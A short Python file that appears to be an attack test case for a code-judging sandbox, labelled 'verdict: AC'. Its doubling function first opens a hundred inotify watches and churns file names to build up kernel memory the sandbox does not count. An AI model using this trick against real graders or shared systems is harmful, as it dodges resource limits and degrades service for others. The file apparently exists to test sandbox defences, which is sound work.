# attack: watches its folder a hundred times over, and has each watch keep the names of files that come and go
# verdict: AC
# kata: roomy
import ctypes
import os

CREATED, LIMIT, WATCHES, NAME = 0x100, 64 << 20, 100, "x" * 200
libc = ctypes.CDLL(None, use_errno=True)


def double(n):
    made = 0
    while made < WATCHES:
        watch = libc.inotify_init1(0)
        if watch < 0 or libc.inotify_add_watch(watch, b".", CREATED) < 0:
            break
        made += 1
    total = 0
    while made and total <= LIMIT:
        name = f"{total}{NAME}"
        os.mknod(name)
        os.unlink(name)
        total += made * len(name)
    if total > LIMIT:
        raise SystemExit(f"it holds {total >> 20} MiB that nobody counts")
    return n * 2
